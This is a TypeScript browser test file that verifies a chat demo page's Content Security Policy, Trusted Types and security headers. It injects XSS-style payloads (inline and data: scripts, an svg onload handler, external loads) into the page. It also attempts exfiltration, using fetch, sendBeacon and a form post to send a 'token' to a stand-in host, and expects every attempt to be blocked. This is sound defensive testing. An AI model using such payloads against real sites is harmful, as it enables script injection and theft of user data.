/** The demo's page under its policy: what it does itself breaks none of it, and what is smuggled into it is refused. */
import { spawnSync } from 'node:child_process'
import { mkdtemp, readFile, rm } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { extname, join } from 'node:path'
import process from 'node:process'
import { fileURLToPath } from 'node:url'
import type { Browser, Page } from 'playwright'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { bridge } from '../../demo/bridge.mjs'
import { slowed } from '../setup/slow-page.ts'
import { ask, found, open, settled, sharedBrowser } from './browser.ts'
import type { Heard } from './browser.ts'
import { serveDemo } from './served.ts'
import type { Served } from './served.ts'
import { serveWorker } from './worker/served.ts'
import type { ServedWorker } from './worker/served.ts'

const ELSEWHERE = 'http://127.0.0.1:9'

/** What an attacker would write into the page, and the directive that stands against it. */
const SMUGGLED: readonly (readonly [directive: string, html: string])[] = [
  ['script-src-elem', '<script>window.injected = "inline"</script>'],
  ['script-src-elem', `<script src="${ELSEWHERE}/script.js"></script>`],
  ['script-src-elem', `<script type="module" src="data:text/javascript,window.injected='module'"></script>`],
  ['script-src-attr', '<svg onload="window.injected = \'handler\'"></svg>'],
  ['style-src-elem', '<style>body { display: none }</style>'],
  ['style-src-attr', '<p style="color: red">styled</p>'],
  ['img-src', `<img src="${ELSEWHERE}/leak.png" alt="">`],
  ['font-src', `<link rel="preload" as="font" crossorigin href="${ELSEWHERE}/leak.woff2">`],
  ['frame-src', `<iframe src="${ELSEWHERE}/"></iframe>`],
  ['object-src', `<object data="${ELSEWHERE}/"></object>`],
  ['media-src', `<video src="${ELSEWHERE}/leak.mp4"></video>`],
  ['base-uri', `<base href="${ELSEWHERE}/">`],
]

/** What a script that got in would try next; each says what became of it. */
const TRIED = {
  'innerHTML': () => { document.createElement('p').innerHTML = '<b>x</b>' },
  'outerHTML of what is in the page': () => { document.querySelector('#status')?.insertAdjacentHTML('beforeend', '<b>x</b>') },
  'document.write()': () => document.write('<b>x</b>'),
  'a policy of its own for Trusted Types': () => { (globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }).trustedTypes.createPolicy('default', {}) },
  'the text of a script': () => { document.head.append(Object.assign(document.createElement('script'), { text: 'window.injected = 1' })) },
  'the address of a script': () => { document.head.append(Object.assign(document.createElement('script'), { src: '/main.ts' })) },
  'srcdoc': () => { document.createElement('iframe').srcdoc = '<script>1</script>' },
  'a worker': () => { void new Worker('/main.ts') },
} as const

describe.skipIf(!found)('demo page, policy', () => {
  let served: Served
  let worker: ServedWorker
  let browser: Browser
  let heard: Heard | undefined
  let exported: { readonly url: string; readonly close: () => Promise<void> }

  beforeAll(async () => {
    served = await serveDemo({ CHUNK_DELAY_MS: '2' })
    worker = await serveWorker({ CHUNK_DELAY_MS: '2' })
    exported = await serveExported()
    browser = await sharedBrowser()
  })
  afterAll(async () => {
    await exported?.close()
    await worker?.stop()
    await served?.stop()
  })
  afterEach(async () => {
    await heard?.page.context().close()
    heard = undefined
  })

  const PLACES: readonly (readonly [name: string, url: () => string])[] = [
    ['npm start', () => `${served.page}/`],
    ['npm run start:edge', () => `${worker.origin}/`],
    ['the exported page, by its meta element', () => exported.url],
  ]

  test.each(PLACES.slice(0, 2))('chat, tools, pictures, a form, settings and the check break nothing of it: %s', async (_, url) => {
    const { page, complaints, violations } = (heard = await open(browser, url()))
    await ask(page, 'Hello')
    await settled(page)
    await page.locator('#ways').getByRole('button', { name: 'Tools' }).click()
    await ask(page, 'What is the weather in Lisbon?')
    await page.locator('.call').last().getByRole('button', { name: 'Allow' }).click()
    await settled(page)
    await page.locator('#ways').getByRole('button', { name: 'Form' }).click()
    await ask(page, 'Plan three days in Kyoto')
    await settled(page)
    expect(await page.locator('.trip').last().getAttribute('data-state')).toBe('valid')
    await page.locator('#fresh').click()
    await page.getByRole('button', { name: 'Show it a picture' }).click()
    await page.locator('.answer').waitFor()
    await settled(page)
    await page.locator('#theme').click()
    await page.locator('#settings').click()
    await page.locator('#connect .close').click()
    await page.locator('#check').click()
    await expect.poll(() => page.locator('#checklist').getAttribute('aria-busy'), { timeout: 10_000 }).toBe('false')
    expect(await violations()).toEqual([])
    // The check asks without a token, to see what the service says of that.
    expect(complaints.filter((complaint) => !complaint.includes('status of 401'))).toEqual([])
  })

  test.each(PLACES)('refuses what is written into the page: %s', async (_, url) => {
    const { page, violations } = (heard = await openWith(browser, url(), SMUGGLED.map(([, html]) => html).join('\n')))
    const directives = async () => [...new Set((await violations()).map((violation) => violation.split(' ')[0]))].toSorted()
    await expect.poll(directives, { timeout: 10_000 }).toEqual([...new Set(SMUGGLED.map(([directive]) => directive))].toSorted())
    const counts = (list: readonly (string | undefined)[]) => list.filter((directive) => directive === 'script-src-elem').length
    await expect.poll(async () => counts((await violations()).map((violation) => violation.split(' ')[0]))).toBeGreaterThanOrEqual(counts(SMUGGLED.map(([directive]) => directive)))
    expect(await page.evaluate(() => [(globalThis as { injected?: unknown }).injected, document.baseURI.startsWith(location.origin), getComputedStyle(document.body).display === 'none'])).toEqual([undefined, true, false])
  })

  test.each(PLACES)('refuses what a script in it would do next: %s', async (_, url) => {
    const { page, violations } = (heard = await open(browser, url()))
    for (const [name, attempt] of Object.entries(TRIED)) expect(await thrown(page, attempt), name).toMatch(/Trusted/)
    // Later than the command, as a browser's debugger may evaluate what a page may not.
    const evaluated = await page.evaluate(() => new Promise<string>((resolve) => {
      setTimeout(() => {
        try {
          const indirect = Reflect.get(globalThis, 'eval') as (code: string) => unknown
          resolve(String(indirect('"evaluated"')))
        } catch (error) {
          resolve(String(error))
        }
      })
    }))
    expect(evaluated).toMatch(/^EvalError/)
    expect(await page.evaluate((elsewhere) => fetch(elsewhere).then(() => 'sent', () => 'refused'), `${ELSEWHERE}/?token`)).toBe('refused')
    expect(await page.evaluate((elsewhere) => navigator.sendBeacon(elsewhere, 'token'), `${ELSEWHERE}/`).catch(() => false)).toBeDefined()
    await page.evaluate((elsewhere) => {
      const form = document.body.appendChild(Object.assign(document.createElement('form'), { action: elsewhere, method: 'post' }))
      form.submit()
    }, ELSEWHERE)
    const blocked = async () => (await violations()).map((violation) => violation.split(' ')[0])
    await expect.poll(blocked).toContain('form-action')
    expect((await blocked()).filter((directive) => directive === 'connect-src').length).toBe(2)
    expect(await page.evaluate(() => (globalThis as { injected?: unknown }).injected)).toBeUndefined()
  })

  test.each(PLACES.slice(0, 2))('lets no other page frame it, and asks for no power of the device: %s', async (_, url) => {
    const { headers } = await fetch(url())
    expect(headers.get('content-security-policy')).toMatch(/^default-src 'none'; .*frame-ancestors 'none'/)
    expect(headers.get('content-security-policy')).toMatch(/base-uri 'none'; form-action 'none';.*require-trusted-types-for 'script'; trusted-types 'none'/)
    expect(headers.get('permissions-policy')).toBe('camera=(), display-capture=(), geolocation=(), microphone=(), payment=(), publickey-credentials-get=(), serial=(), usb=()')
    expect(['cross-origin-opener-policy', 'cross-origin-resource-policy', 'referrer-policy', 'x-content-type-options'].map((name) => headers.get(name))).toEqual(['same-origin', 'same-origin', 'no-referrer', 'nosniff'])
    const page = await slowed(await browser.newPage())
    await page.route(`${ELSEWHERE}/`, (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${url()}"></iframe>` }))
    await page.goto(`${ELSEWHERE}/`)
    await expect.poll(() => page.frames().map((frame) => frame.url())).toEqual([`${ELSEWHERE}/`, 'chrome-error://chromewebdata/'])
    await page.close()
  })
})

/** Opens the page as it would be if somebody had written into its body. */
function openWith(browser: Browser, url: string, html: string): Promise<Heard> {
  return open(browser, url, {}, (context) => context.route(url, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>\n${html}`) })
  }))
}

/** How an attempt fails, in the page. */
function thrown(page: Page, attempt: () => void): Promise<string> {
  return page.evaluate(attempt).then(() => 'nothing was thrown', String)
}

/** The exported page on a host that sends no header of its own. */
async function serveExported(): Promise<{ readonly url: string; readonly close: () => Promise<void> }> {
  const folder = await mkdtemp(join(tmpdir(), 'keyless-chat-policy-'))
  const { status, stderr } = spawnSync(process.execPath, ['demo/export.mjs', folder], { cwd: fileURLToPath(new URL('../..', import.meta.url)), encoding: 'utf8' })
  expect([status, stderr]).toEqual([0, ''])
  const types: Readonly<Record<string, string>> = { '.html': 'text/html', '.js': 'text/javascript', '.mjs': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml' }
  const host = createServer(bridge(async ({ url }) => {
    const path = new URL(url).pathname.slice(1) || 'index.html'
    if (path === 'config.json') return Response.json({ mode: 'broker', endpoint: 'https://contoso.openai.azure.com', deployments: ['gpt-5-mini'], tokenUrl: 'token' })
    const body = await readFile(join(folder, path)).catch(() => undefined)
    return body ? new Response(body, { headers: { 'content-type': types[extname(path)] ?? 'text/plain' } }) : new Response(null, { status: 404 })
  }))
  await new Promise<void>((resolve) => host.listen(0, '127.0.0.1', resolve))
  return {
    url: `http://127.0.0.1:${(host.address() as AddressInfo).port}/`,
    async close() {
      host.closeAllConnections()
      host.close()
      await rm(folder, { recursive: true, force: true })
    },
  }
}
